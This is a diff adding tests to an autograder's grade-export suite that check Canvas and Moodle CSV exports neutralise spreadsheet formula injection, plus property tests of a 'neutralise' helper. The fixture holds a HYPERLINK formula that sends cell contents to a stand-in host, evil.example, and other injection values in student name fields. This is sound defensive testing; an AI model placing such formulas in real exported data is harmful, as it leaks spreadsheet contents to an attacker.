@@ -17,11 +17,14 @@ from pathlib import Path
 
 import nbformat
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
 from nbgrader.api import Gradebook
 
 from autograder.export import CanvasExporter
 from autograder.roster import import_roster
+from autograder.spreadsheet import NUMBER, neutralise
 from autograder.verdict import CheckResult, score_cell, write_outputs
 
 GOLDEN = Path(__file__).parent / "golden" / "export"
@@ -282,3 +285,32 @@ def test_gradescope_results_match_golden(tmp_path: Path) -> None:
         doc = json.loads(produced.read_text(encoding="utf-8"))
         assert doc["score"] <= doc["max_score"]
         assert all(t["visibility"] == "visible" for t in doc["tests"])
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("exporter", ["CanvasExporter", "MoodleExporter"])
+def test_csv_cells_that_could_start_a_formula_are_written_as_text(tmp_path: Path, exporter: str) -> None:
+    """OWASP's CSV-injection rule: a student-controlled cell a spreadsheet would run gets a leading '."""
+    extra = {"=mallory": {"first_name": "@SUM(A1)", "last_name": FORMULA, "email": "+m@example.edu"}}
+    root = make_course(tmp_path / "course", extra_students=extra)
+    dest = tmp_path / "grades.csv"
+    run = nbgrader_export(root, exporter, dest, "--MoodleExporter.key=idnumber")
+    assert run.returncode == 0, run.stderr
+    cells = [cell for row in csv.reader(dest.read_text(encoding="utf-8").splitlines()) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+") or cell.startswith("-")]
+    assert "'=mallory" in cells
+    assert ("'" + FORMULA + ", @SUM(A1)" if exporter == "CanvasExporter" else "'=mallory") in cells
+
+
+@given(st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.integers()))
+def test_numbers_are_never_changed(number: float) -> None:
+    assert neutralise(repr(number)) == repr(number) and neutralise(number) == number
+
+
+@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text())
+def test_every_text_that_could_start_a_formula_reads_as_text(start: str, rest: str) -> None:
+    text = start + rest
+    assert neutralise(text) in (text, "'" + text)
+    assert neutralise(text) == "'" + text or NUMBER.fullmatch(text)
